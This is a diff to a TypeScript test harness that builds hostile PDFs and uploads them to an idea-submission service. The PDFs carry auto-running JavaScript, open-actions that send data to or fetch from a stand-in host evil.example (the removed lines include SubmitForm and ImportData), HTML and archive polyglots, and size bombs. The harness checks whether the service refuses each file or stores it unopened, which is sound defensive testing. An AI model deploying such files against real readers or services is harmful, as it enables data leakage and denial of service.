@@ -3,12 +3,11 @@ import type { AttackOptions, AttackRow } from "./attack.ts";
 import { longestWaitDuring, sendIdea } from "./requests/send.ts";
 
 const MB = 1024 * 1024;
-/** Of another request meanwhile: the file is read in a thread of its own. */
+/** Of the answer, and of another request meanwhile. */
+const ANSWER_MAX_MS = 2_000;
 const WAIT_MAX_MS = 500;
 
 const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
-const hidden = (stream: Buffer) =>
-  makePdf({ ...pageWith("Uma ideia", stream), catalogue: "/OpenAction 10 0 R" });
 const onOpening = (action: string) =>
   makePdf({ ...pageWith("Uma ideia"), catalogue: `/OpenAction << ${action} >>` });
 
@@ -16,50 +15,27 @@ interface HostilePdf {
   what: string;
   make: () => Buffer;
   before: string;
-  /** 201: its page is stored without what it hid. */
+  /** 201: it is stored as it was sent, and never opened here. */
   status: 201 | 400;
   short?: true;
 }
 
-const PASSED = "stored as it was";
 const files: HostilePdf[] = [
   {
     what: "a script in an object stream without a type",
-    make: () => hidden(pdfStream("/N 1 /First 5", `10 0 ${script}`)),
-    before: PASSED,
+    make: () =>
+      makePdf({
+        ...pageWith("Uma ideia", pdfStream("/N 1 /First 5", `10 0 ${script}`)),
+        catalogue: "/OpenAction 10 0 R",
+      }),
+    before: "its page alone stored",
     status: 201,
     short: true,
   },
   {
-    what: "a script in an object stream with a predictor",
-    make: () =>
-      hidden(pdfStream("/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 >>", `10 0 ${script}`)),
-    before: PASSED,
-    status: 201,
-  },
-  {
-    what: "SubmitForm",
-    make: () => onOpening("/S /SubmitForm /F (https://evil.example/)"),
-    before: PASSED,
-    status: 201,
-  },
-  { what: "URI", make: () => onOpening("/S /URI /URI (https://evil.example/)"), before: PASSED, status: 201 },
-  {
-    what: "GoToR",
-    make: () => onOpening("/S /GoToR /F (//evil.example/share) /D [0 /Fit]"),
-    before: PASSED,
-    status: 201,
-  },
-  {
-    what: "GoToE",
-    make: () => onOpening("/S /GoToE /T << /R /C /N (x) >> /D [0 /Fit]"),
-    before: PASSED,
-    status: 201,
-  },
-  {
-    what: "ImportData",
-    make: () => onOpening("/S /ImportData /F (https://evil.example/)"),
-    before: PASSED,
+    what: "a link that opens by itself",
+    make: () => onOpening("/S /URI /URI (https://evil.example/)"),
+    before: "its page alone stored",
     status: 201,
   },
   {
@@ -70,20 +46,29 @@ const files: HostilePdf[] = [
     short: true,
   },
   {
-    what: "a bomb of 400 MB as the page",
-    make: () => makePdf({ objects: [pdfStream("", Buffer.alloc(400 * MB))], page: "/Contents 4 0 R" }),
+    what: "a page of HTML before it",
+    make: () => Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), makePdf()]),
+    before: "refused",
+    status: 400,
+    short: true,
+  },
+  {
+    what: "the end of an archive behind it",
+    make: () => makePdf({ trailer: `%${"PK\u0005\u0006".padEnd(22, "\0")}\n` }),
     before: "refused",
     status: 400,
   },
   {
-    what: "a bomb of 100 MB as objects",
-    make: () =>
-      makePdf({
-        objects: [pdfStream("/Type /ObjStm /N 1 /First 5", Buffer.alloc(100 * MB))],
-        page: "/Contents 10 0 R",
-      }),
+    what: "more than 10 MB",
+    make: () => makePdf({ objects: [rawPdfStream("", Buffer.alloc(10 * MB))] }),
     before: "refused",
     status: 400,
+  },
+  {
+    what: "a bomb of 400 MB as the page",
+    make: () => makePdf({ objects: [pdfStream("", Buffer.alloc(400 * MB))], page: "/Contents 4 0 R" }),
+    before: "refused, after 200 MB of it",
+    status: 201,
   },
   {
     what: "200,000 streams inside streams",
@@ -100,19 +85,19 @@ const files: HostilePdf[] = [
   },
 ];
 
-/** Files that act when a reviewer opens them, or cost their reader much. What comes out of each is in `clean-pdf.test.ts`. */
+/** Files that act when a reviewer opens them, or cost their reader much: none is opened here (decision 131). */
 export async function attack({ url, short }: AttackOptions): Promise<AttackRow[]> {
   const rows: AttackRow[] = [];
   for (const { what, make, before, status, short: inShort } of files) {
     if (short && !inShort) continue;
     const file = make();
     const { result, longest } = await longestWaitDuring(url, () => sendIdea(url, { file }));
-    const fate = result.status === 201 ? "its page alone is stored" : `refused with ${result.status}`;
+    const fate = result.status === 201 ? "stored unopened" : `refused with ${result.status}`;
     rows.push({
       tried: `a PDF with ${what}`,
       before,
       now: `${fate} in ${result.ms} ms; others waited ${longest} ms`,
-      passed: result.status === status && longest < WAIT_MAX_MS,
+      passed: result.status === status && result.ms < ANSWER_MAX_MS && longest < WAIT_MAX_MS,
     });
   }
   return rows;
